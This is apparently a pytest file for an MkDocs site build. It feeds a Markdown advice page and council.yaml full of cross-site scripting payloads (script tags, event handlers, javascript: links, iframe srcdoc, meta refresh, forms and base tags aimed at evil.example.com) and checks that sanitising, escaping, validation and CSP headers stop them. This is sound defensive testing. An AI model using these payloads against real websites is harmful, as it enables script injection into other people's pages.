"""Real MkDocs builds with hostile advice pages and council.yaml.

1. With the sanitiser's validation switched off, nh3 alone keeps every injected element
   out of the built HTML, and the theme escapes front matter and council.yaml values:
   checked in the HTML and in Chromium with the Content-Security-Policy bypassed.
2. With it on, the same page is refused with file:line before anything is written.
3. A page that fails after validation leaves the previous site as it was, and no empty
   folder when there was none.
4. The hosting headers (_headers, nginx) agree with every page's CSP meta tag.
"""

from __future__ import annotations

import re
import shutil
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
import yaml

from build_tools import csp
from build_tools.hosting import HEADERS_FILE, NGINX_FILE
from tests.directory import isolated

PAYLOAD_PAGE = """---
title: Money </title><script>window.__xss=1</script> & "quotes"
description: '" onmouseover="window.__xss=1" x="'
author: '<img src=x onerror=window.__xss=1>'
services: [meals]
---

# Help at home

<script>window.__xss=1</script>

<img src="x.png" alt="x" onerror="window.__xss=1">

<a href="javascript:window.__xss=1">js link</a> and [md link](javascript:window.__xss=1)

<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>

<meta http-equiv="refresh" content="0;url=https://evil.example.com/">

<details ontoggle="window.__xss=1" open><summary>More</summary>Text</details>

<svg onload="window.__xss=1"></svg><math><mtext><script>window.__xss=1</script></mtext></math>

<form action="https://evil.example.com/"><input name="pw"></form>

Click here
{: onclick="window.__xss=1" }

<p style="position:fixed">Styled</p>

<object data="x.swf"></object><embed src="x.swf"><base href="https://evil.example.com/">

<a href="https://www.example.org/">safe link</a> and <abbr title="Care Act">CA</abbr>.
"""
HOSTILE_COUNCIL = {
    "name": "Wyvern <script>window.__xss=1</script> Council",
    "fictional_notice": '<img src=x onerror="window.__xss=1"> Demo',
    ("contact_centre", "hours"): '"><svg onload=window.__xss=1>',
    ("out_of_hours", "hours"): "</p><iframe srcdoc='<script>parent.__xss=1</script>'>",
    "emergency": "999",
}
SAFE_FEATURES = ["build_tools.identity:FEATURE", "tests.hostile.features:HTML_ONLY",
                 "build_tools.directory.feature:FEATURE", "build_tools.hosting:FEATURE"]
FULL_FEATURES = ["build_tools.identity:FEATURE", "build_tools.content_checks.sanitise:FEATURE",
                 "build_tools.directory.feature:FEATURE", "build_tools.hosting:FEATURE"]
INJECTED = re.compile(r"<(script|iframe|object|embed|svg|math|form|base|style)\b[^>]*>"
                      r"(?![^<]*</\1>\s*$)|<meta[^>]+http-equiv=[\"']?refresh", re.I)


def _build(project: Path, site: Path, features: list[str]) -> Any:
    """Build ``project`` with exactly ``features`` (the plugin's ``features:`` option)."""
    (project / "mkdocs.yml").write_text(isolated.config(isolated.extra_css(), features),
                                        encoding="utf-8")
    return isolated.build(project, site)


def _hostile_project(base: Path) -> Path:
    project = isolated.make_project(base, advice=PAYLOAD_PAGE)
    council = yaml.safe_load((project / "council.yaml").read_text(encoding="utf-8"))
    for key, value in HOSTILE_COUNCIL.items():
        if isinstance(key, tuple):
            council[key[0]][key[1]] = value
        else:
            council[key] = value
    (project / "council.yaml").write_text(yaml.safe_dump(council), encoding="utf-8")
    return project


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    base = tmp_path_factory.mktemp("hostile-site")
    project = _hostile_project(base)
    site = base / "site"
    result = _build(project, site, SAFE_FEATURES)
    assert result.returncode == 0, result.stderr[-3000:]
    return project, site


class _Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.bad: list[str] = []
        self.inline_scripts: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        for name, value in attrs:
            if name.startswith("on"):
                self.bad.append(f"<{tag} {name}>")
            if name in ("href", "src", "action", "formaction", "srcdoc", "data") and value and (
                    re.match(r"\s*(javascript|vbscript|data:text)", value, re.I)
                    or name == "srcdoc"):
                self.bad.append(f"<{tag} {name}={value[:40]}>")
        if tag in ("iframe", "object", "embed", "base", "frame", "applet"):
            self.bad.append(f"<{tag}>")
        if tag == "form" and re.match(r"^(https?:)?//", dict(attrs).get("action") or ""):
            self.bad.append(f"<form action={dict(attrs).get('action')}>")
        if tag == "meta" and dict(attrs).get("http-equiv", "").lower() == "refresh":
            self.bad.append("<meta refresh>")
        self._in_script = tag == "script"

    def handle_data(self, data: str) -> None:
        if self._in_script and "__xss" in data:
            self.bad.append(f"<script>{data[:40]}")

    def handle_endtag(self, tag: str) -> None:
        self._in_script = False


def _pages(site: Path) -> list[Path]:
    return sorted(site.rglob("*.html"))


def test_no_injected_element_in_any_built_page(hostile_site: tuple[Path, Path]) -> None:
    _, site = hostile_site
    pages = _pages(site)
    assert len(pages) > 5
    seen_payload = 0
    for page in pages:
        html = page.read_text(encoding="utf-8")
        seen_payload += "__xss" in html
        parser = _Elements()
        parser.feed(html)
        assert parser.bad == [], (page.relative_to(site).as_posix(), parser.bad)
    assert seen_payload, "the council.yaml payloads should appear, escaped, on the pages"
    advice = (site / "help-at-home" / "index.html").read_text(encoding="utf-8")
    assert "safe link" in advice and '<abbr title="Care Act">' in advice
    assert "&lt;script&gt;window.__xss=1&lt;/script&gt; Council" in advice
    assert "<title>Money &lt;/title&gt;&lt;script&gt;" in advice


def test_nothing_runs_in_chromium(hostile_site: tuple[Path, Path], browser: Any) -> None:
    from tests.support.scripts import scripts_that_ran

    _, site = hostile_site
    run = scripts_that_ran(browser, site, ["help-at-home/", "", "services/"])
    assert run.found == []
    assert run.titles["help-at-home/"].startswith("Money </title><script>"), run.titles


def test_the_same_page_is_refused_with_file_and_line(tmp_path: Path) -> None:
    project = _hostile_project(tmp_path)
    site = tmp_path / "site"
    result = _build(project, site, FULL_FEATURES)
    assert result.returncode != 0
    assert "content/help-at-home.md:2:1: title: contains < or >" in result.stderr
    assert "content/help-at-home.md:10:1: (html): <script> is not allowed" in result.stderr
    assert "the onerror= event handler on <img> is not allowed" in result.stderr
    assert "a javascript: link is not allowed" in result.stderr
    assert "<meta> is not allowed" in result.stderr
    assert "Traceback" not in result.stderr
    assert not site.exists()


def test_a_page_failing_after_validation_keeps_the_old_site(
        hostile_site: tuple[Path, Path], tmp_path: Path) -> None:
    _, built = hostile_site
    project = isolated.make_project(tmp_path)
    (project / "content" / "broken.md").write_text(
        "---\ntitle: Broken\n---\n\n# Broken\n\nText\n\n{{ 1 / 0 }}\n", encoding="utf-8")
    site = tmp_path / "site"
    shutil.copytree(built, site)
    before = {p.relative_to(site).as_posix(): p.read_bytes() for p in site.rglob("*")
              if p.is_file()}
    result = _build(project, site, FULL_FEATURES)
    assert result.returncode != 0
    assert "content/broken.md:9:1: (template)" in result.stderr, result.stderr[-2000:]
    after = {p.relative_to(site).as_posix(): p.read_bytes() for p in site.rglob("*")
             if p.is_file()}
    assert after == before
    fresh = tmp_path / "fresh-site"
    result = _build(project, fresh, FULL_FEATURES)
    assert result.returncode != 0
    assert not fresh.exists(), "a failed build must not leave an empty site folder"
    assert not list(tmp_path.glob(".*firststop-previous"))


def _headers_rules(text: str) -> list[tuple[str, dict[str, str]]]:
    rules: list[tuple[str, dict[str, str]]] = []
    for line in text.splitlines():
        if not line or line.startswith("#"):
            continue
        if not line.startswith(" "):
            rules.append((line.strip(), {}))
        else:
            name, _, value = line.strip().partition(": ")
            rules[-1][1][name] = value
    return rules


def _matches(pattern: str, path: str) -> bool:
    return path.startswith(pattern[:-1]) if pattern.endswith("*") else path == pattern


def _meta_policy(html: str) -> str | None:
    import html as html_module

    match = re.search(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)"', html)
    return html_module.unescape(match.group(1)) if match else None


def test_hosting_headers_agree_with_every_meta_tag(hostile_site: tuple[Path, Path]) -> None:
    _, site = hostile_site
    rules = _headers_rules((site / HEADERS_FILE).read_text(encoding="utf-8"))
    common = dict(rules[0][1]) if rules[0][0] == "/*" else {}
    assert common["X-Content-Type-Options"] == "nosniff"
    assert common["Referrer-Policy"] == "no-referrer"
    assert "camera=()" in common["Permissions-Policy"]
    nginx = (site / NGINX_FILE).read_text(encoding="utf-8")
    default = re.search(r'^    default "([^"]*)";', nginx, re.M).group(1)
    entries = re.findall(r'^    "(~\^)?([^"]*)" "([^"]*)";', nginx, re.M)
    for page in _pages(site):
        meta = _meta_policy(page.read_text(encoding="utf-8"))
        assert meta is not None, page
        relative = page.relative_to(site).as_posix()
        urls = ["/" + relative]
        if relative.endswith("index.html"):
            urls.append("/" + relative[: -len("index.html")])
        expected = meta + "; frame-ancestors 'none'"
        assert expected == csp.header_policy(csp.profile_of(meta))
        for url in urls:
            policies = [h["Content-Security-Policy"] for p, h in rules
                        if "Content-Security-Policy" in h and _matches(p, url)]
            assert policies == [expected], (url, policies)
            found = [policy for regex, pattern, policy in entries
                     if (re.match(pattern.replace("\\", "\\"), url) if regex else
                         pattern == url)]
            assert (found[0] if found else default) == expected, url
    assert "add_header Content-Security-Policy $firststop_csp always;" in nginx
    assert 'add_header X-Content-Type-Options "nosniff" always;' in nginx
